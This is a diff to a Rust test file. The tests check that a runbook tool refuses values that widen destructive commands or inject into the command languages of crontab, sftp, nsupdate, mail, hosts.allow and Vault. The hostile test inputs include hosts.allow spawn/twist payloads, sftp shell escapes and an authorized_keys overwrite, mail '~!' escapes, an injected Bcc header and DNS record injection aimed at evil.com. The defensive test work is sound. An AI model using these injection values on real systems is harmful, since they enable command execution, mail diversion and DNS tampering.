@@ -2256,31 +2256,19 @@ fn run_with_these_fakes(
     run_step(&rb, fakes, fake_program, &["--confirm", "s"], value)
 }
 
-/// Audit 29 H-6, H-8, H-9, H-11, H-12, H-13, H-18: a value that would widen what a command
-/// acts on — an empty or `.` pattern of the lines `grep -v` drops before `crontab -`
-/// replaces the table, an empty repository of `docker images` feeding `docker rmi`, `all`
-/// as ansible's `--limit`, `*` as the include of what `aws s3 rm` deletes, `.` as the lines
-/// `sed -i` deletes, `*` as an NSG rule's source, a `'` in a JMESPath query feeding a
-/// deleter — is refused before anything runs (every program a fake first on the PATH); an
+/// Audit 29 H-8, H-9, H-11, H-12, H-13, H-18: a value that would widen what a command
+/// acts on — an empty repository of `docker images` feeding `docker rmi`, `all` as
+/// ansible's `--limit`, `*` as the include of what `aws s3 rm` deletes or `aws s3 cp`
+/// copies, `.` as the lines `sed -i` deletes, `*` as an NSG rule's source (also after `-n
+/// ssh`, a rule's name), a `'` in a JMESPath query feeding a deleter — is refused before anything runs (every program a fake first on the PATH); an
 /// ordinary value reaches the program.
 #[test]
 fn a_value_that_would_widen_what_more_commands_act_on_is_refused() {
     for (fakes, run, hostiles, says, ordinary, program, given) in [
         (
-            &["crontab"][..],
-            // (grep finds no line of the fake's empty table: `|| true`.)
-            r#"crontab -l | grep -v "{{ inputs.v }}" | crontab - || true"#,
-            &["", ".", "^"][..],
-            "drops from what then replaces the whole table",
-            "backup.sh",
-            "crontab",
-            // (`crontab -l` or `crontab -`, whichever of the two fakes wrote last.)
-            "[-{any}]",
-        ),
-        (
-            &["docker"],
+            &["docker"][..],
             r#"docker images -q "{{ inputs.v }}" | xargs -r docker rmi"#,
-            &["", "*"],
+            &["", "*"][..],
             "picks what a later command deletes",
             "registry.example.com/app:1.2",
             "docker",
@@ -2305,6 +2293,15 @@ fn a_value_that_would_widen_what_more_commands_act_on_is_refused() {
             "[s3][rm][s3://b/][--recursive][--exclude][*][--include][logs/2026-*]",
         ),
         (
+            &["aws"],
+            r#"aws s3 cp s3://b/ "$OUT/restore" --recursive --exclude "*" --include "{{ inputs.v }}""#,
+            &["*", "?/*", ""],
+            "would include every object",
+            "logs/2026-12-07.gz",
+            "aws",
+            "[s3][cp][s3://b/][{any}/restore][--recursive][--exclude][*][--include][logs/2026-12-07.gz]",
+        ),
+        (
             &["sed"],
             r#"sed -i "/{{ inputs.v }}/d" "$OUT/hosts""#,
             &["", ".", "^", ".*"],
@@ -2321,6 +2318,16 @@ fn a_value_that_would_widen_what_more_commands_act_on_is_refused() {
             "203.0.113.7/32",
             "az",
             "[network][nsg][rule][create][-g][rg][--nsg-name][nsg][-n][allow-ssh][--priority][100][--source-address-prefixes][203.0.113.7/32]",
+        ),
+        // (`ssh`, the rule's name, is an option's argument, not the ssh command.)
+        (
+            &["az"],
+            r#"az network nsg rule create -g rg --nsg-name nsg -n ssh --priority 100 --source-address-prefixes "{{ inputs.v }}""#,
+            &["*", "Internet", "0.0.0.0/0"],
+            "would match every address",
+            "203.0.113.7/32",
+            "az",
+            "[network][nsg][rule][create][-g][rg][--nsg-name][nsg][-n][ssh][--priority][100][--source-address-prefixes][203.0.113.7/32]",
         ),
         (
             &["aws"],
@@ -2362,6 +2369,67 @@ fn a_value_that_would_widen_what_more_commands_act_on_is_refused() {
     }
 }
 
+/// A fake `crontab` in a folder of the test: `-l` prints a table of two lines, `-` writes
+/// its arguments (`[arg]` each), a new line and the table it reads to `$OUT/crontab`.
+fn fake_crontab(t: &Test, name: &str) -> std::path::PathBuf {
+    let bin = t.path("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let path = bin.join(name);
+    std::fs::write(
+        &path,
+        "#!/bin/sh
+if [ \"$1\" = -l ]; then printf '0 1 * * * /usr/local/bin/backup.sh\\n0 2 * * * /usr/local/bin/rotate.sh\\n'; exit 0; fi\n{ printf '[%s]' \"$@\"; echo; cat; } > \"$OUT/crontab\"\n",
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    bin
+}
+
+/// Audit 29 H-6: an empty or `.` pattern of the lines `grep -v` drops before `crontab -`
+/// replaces the table is refused before anything runs; an ordinary one drops its own line
+/// and `crontab -` (only it: `crontab -l` writes nothing) is given the rest of the table.
+#[test]
+fn a_pattern_of_the_lines_dropped_from_a_crontab_may_not_drop_every_line() {
+    let rb = runbook_of(&[(
+        "s",
+        r#"crontab -l | grep -v "{{ inputs.v }}" | crontab -"#.to_string(),
+    )])
+    .replace("readonly: true", "dangerous: true\n    confirm: go ahead");
+    for hostile in ["", ".", "^"] {
+        let (o, given) = run_step(
+            &rb,
+            &["crontab"],
+            fake_crontab,
+            &["--confirm", "s"],
+            hostile,
+        );
+        assert_ne!(o.code, 0, "{hostile:?}");
+        assert!(
+            o.stderr
+                .contains("drops from what then replaces the whole table"),
+            "{hostile:?}: {}",
+            o.stderr
+        );
+        assert_eq!(given, vec![("crontab".to_string(), None)], "{hostile:?}");
+    }
+    let (o, given) = run_step(
+        &rb,
+        &["crontab"],
+        fake_crontab,
+        &["--confirm", "s"],
+        "backup.sh",
+    );
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    assert_eq!(
+        given,
+        vec![(
+            "crontab".to_string(),
+            Some("[-]\n0 2 * * * /usr/local/bin/rotate.sh\n".to_string())
+        )]
+    );
+}
+
 /// A fake program in a folder of the test that writes its arguments (`[arg]` each), a new
 /// line and what it reads on its input to `$OUT/NAME`. Only for steps that give it an
 /// input (a here-document, a pipe).
@@ -2379,7 +2447,8 @@ fn fake_reader(t: &Test, name: &str) -> std::path::PathBuf {
     bin
 }
 
-/// The programs [`run_with_readers`] puts first on the PATH, each a [`fake_reader`].
+/// The programs [`refused_then_read`] puts first on the PATH for most cases, each a
+/// [`fake_reader`].
 const READERS: [&str; 7] = [
     "vault",
     "nsupdate",
@@ -2389,13 +2458,6 @@ const READERS: [&str; 7] = [
     "smbclient",
     "mail",
 ];
-
-/// Runs the one step `run` with `value`, with the [`READERS`] first on the PATH: the run's
-/// output and what each was given (`None`: it did not run).
-fn run_with_readers(run: &str, value: &str) -> (common::Output, Vec<(String, Option<String>)>) {
-    let rb = runbook_of(&[("s", run.to_string())]);
-    run_step(&rb, &READERS, fake_reader, &[], value)
-}
 
 /// Audit 29 H-25, H-24, H-23, H-10: a value in a document or command string that a program
 /// reads in a language of its own (a Vault policy in HCL on vault's input, nsupdate's and
@@ -2483,18 +2545,178 @@ fn a_value_in_a_programs_own_command_language_stays_data() {
             "[-s][disk full][ops@example.com]\nweb-1 is full\nsee ~/logs\n",
         ),
     ];
+    let hostiles: Vec<[&str; 1]> = cases.iter().map(|c| [c.1]).collect();
+    let cases: Vec<ReaderCase> = cases
+        .iter()
+        .zip(&hostiles)
+        .map(|((run, _, says, ordinary, program, given), hostile)| {
+            (
+                &READERS[..],
+                run.as_str(),
+                &hostile[..],
+                *says,
+                *ordinary,
+                *program,
+                *given,
+            )
+        })
+        .collect();
+    refused_then_read(&cases);
+}
+
+/// Review of issue 10's last stop: a bracketed IPv6 client of `hosts.allow` arrives as
+/// written, a `:` outside brackets is refused; a batch file the step writes from the value
+/// and gives a program on its input (`sftp h < b.txt`, `nsupdate < upd.txt`, `mail … <
+/// body`) is held as that program's commands; one rule for a Vault policy's paths (`*`,
+/// `+`, `?`); `heirloom-mailx -t` and `nail -t` read headers; a value that is a whole line
+/// of an nsupdate or sftp batch, or a glob in sftp's `rm`, is refused. Each hostile value is
+/// refused before any fake runs, with the words `says`; the ordinary one reaches `program`
+/// byte for byte (every program a fake reader first on the PATH).
+#[test]
+fn values_in_batch_files_hosts_rules_and_mail_headers_stay_data() {
+    let cases: &[ReaderCase] = &[
+        (
+            &["tee"],
+            r#"echo "sshd: {{ inputs.v }}" | tee -a /etc/hosts.allow"#,
+            &[
+                "[2001:db8::5]:spawn(touch${IFS}/tmp/pwned)",
+                "2001:db8::5",
+                "[::1],ALL",
+            ],
+            "hosts.allow",
+            "[2001:db8::5]",
+            "tee",
+            "[-a][/etc/hosts.allow]\nsshd: [2001:db8::5]\n",
+        ),
+        (
+            &["tee"],
+            r#"echo "sshd: {{ inputs.v }}" | tee -a /etc/hosts.deny"#,
+            &["[2001:db8::]/32:twist /bin/id"],
+            "hosts.allow",
+            "[2001:db8::]/32",
+            "tee",
+            "[-a][/etc/hosts.deny]\nsshd: [2001:db8::]/32\n",
+        ),
+        (
+            &["sftp"],
+            "echo \"put {{ inputs.v }} /srv/in/\" > \"$OUT/b.txt\"\nsftp backup@db-1 < \"$OUT/b.txt\"",
+            &[
+                "x /srv/in/\n!touch /tmp/pwned",
+                "x /home/u/.ssh/authorized_keys",
+            ],
+            "sftp",
+            "backup-2026-12-07.tar.gz",
+            "sftp",
+            "[backup@db-1]\nput backup-2026-12-07.tar.gz /srv/in/\n",
+        ),
+        (
+            &["nsupdate"],
+            "printf 'update add %s.example.com 300 A 10.0.0.1\\nsend\\n' \"{{ inputs.v }}\" > \"$OUT/upd.txt\"\nnsupdate -k /etc/k.key < \"$OUT/upd.txt\"",
+            &["x\nupdate delete example.com", "evil.com. 300 A 6.6.6.6 ;"],
+            "`nsupdate`",
+            "web-1",
+            "nsupdate",
+            "[-k][/etc/k.key]\nupdate add web-1.example.com 300 A 10.0.0.1\nsend\n",
+        ),
+        (
+            &["mail"],
+            "cat > \"$OUT/body\" <<EOF\nDisk full on {{ inputs.v }}\nEOF\nmail -s \"disk full\" ops@example.com < \"$OUT/body\"",
+            &["web-1\n~!touch /tmp/pwned"],
+            "has a line starting with `~`",
+            "web-1\nsee ~/logs",
+            "mail",
+            "[-s][disk full][ops@example.com]\nDisk full on web-1\nsee ~/logs\n",
+        ),
+        (
+            &["vault"],
+            r#"vault write sys/policy/app policy='path "secret/data/{{ inputs.v }}" { capabilities = ["read"] }'"#,
+            &["*", "app/+", "app/?"],
+            "quoted string of a Vault policy",
+            "app/db",
+            "vault",
+            "[write][sys/policy/app][policy=path \"secret/data/app/db\" { capabilities = [\"read\"] }]\n",
+        ),
+        (
+            &["heirloom-mailx"],
+            "heirloom-mailx -t <<EOF\nTo: ops@example.com\nSubject: [incident] {{ inputs.v }}\n\nbody\nEOF",
+            &["x\nBcc: a@evil.example"],
+            "header",
+            "disk full",
+            "heirloom-mailx",
+            "[-t]\nTo: ops@example.com\nSubject: [incident] disk full\n\nbody\n",
+        ),
+        (
+            &["nail"],
+            "nail -t <<EOF\nTo: ops@example.com\nSubject: [incident] {{ inputs.v }}\n\nbody\nEOF",
+            &["x\nBcc: a@evil.example"],
+            "header",
+            "disk full",
+            "nail",
+            "[-t]\nTo: ops@example.com\nSubject: [incident] disk full\n\nbody\n",
+        ),
+        (
+            &["nsupdate"],
+            "nsupdate <<EOF\nupdate delete old.example.com A\n{{ inputs.v }}\nupdate add new.example.com 300 A 10.0.0.1\nsend\nEOF",
+            &["send", "quit"],
+            "`send` sends the changes",
+            "",
+            "",
+            "",
+        ),
+        (
+            &["sftp"],
+            "sftp -b - backup@db-1 <<EOF\n{{ inputs.v }}\nput /var/backups/x.tgz /srv/in/\nEOF",
+            &["bye", "quit"],
+            "`bye` or `quit` ends the batch",
+            "pwd",
+            "sftp",
+            "[-b][-][backup@db-1]\npwd\nput /var/backups/x.tgz /srv/in/\n",
+        ),
+        (
+            &["sftp"],
+            "sftp -b - backup@db-1 <<EOF\nrm /srv/in/{{ inputs.v }}\nEOF",
+            &["*", "x?", "[a-z]*"],
+            "would pick every file",
+            "backup-2026-12-07.tar.gz",
+            "sftp",
+            "[-b][-][backup@db-1]\nrm /srv/in/backup-2026-12-07.tar.gz\n",
+        ),
+    ];
+    refused_then_read(cases);
+}
+
+/// The programs first on the PATH (each a [`fake_reader`]), a step, hostile values, words
+/// one of which the refusal says, an ordinary value, the program given it (empty: none is
+/// checked) and what that program is given.
+type ReaderCase<'a> = (
+    &'a [&'a str],
+    &'a str,
+    &'a [&'a str],
+    &'a str,
+    &'a str,
+    &'a str,
+    &'a str,
+);
+
+/// Runs each case: every hostile value is refused before any fake runs, saying `says`; the
+/// ordinary one reaches `program` byte for byte.
+fn refused_then_read(cases: &[ReaderCase]) {
     let mut wrong = Vec::new();
-    for (run, hostile, says, ordinary, program, given) in &cases {
-        let (o, got) = run_with_readers(run, hostile);
-        if o.code == 0 || !o.stderr.contains(says) || got.iter().any(|(_, g)| g.is_some()) {
-            wrong.push(format!(
-                "{run} with {hostile:?}: code {}, ran {:?}\n{}",
-                o.code,
-                got.iter().filter(|(_, g)| g.is_some()).collect::<Vec<_>>(),
-                o.stderr
-            ));
+    for (fakes, run, hostiles, says, ordinary, program, given) in cases {
+        let rb = runbook_of(&[("s", run.to_string())]);
+        for hostile in *hostiles {
+            let (o, got) = run_step(&rb, fakes, fake_reader, &[], hostile);
+            if o.code == 0 || !o.stderr.contains(says) || got.iter().any(|(_, g)| g.is_some()) {
+                wrong.push(format!(
+                    "{run} with {hostile:?}: code {}, ran {got:?}\n{}",
+                    o.code, o.stderr
+                ));
+            }
         }
-        let (o, got) = run_with_readers(run, ordinary);
+        if program.is_empty() {
+            continue;
+        }
+        let (o, got) = run_step(&rb, fakes, fake_reader, &[], ordinary);
         let got = got
             .iter()
             .find(|(n, _)| n == program)
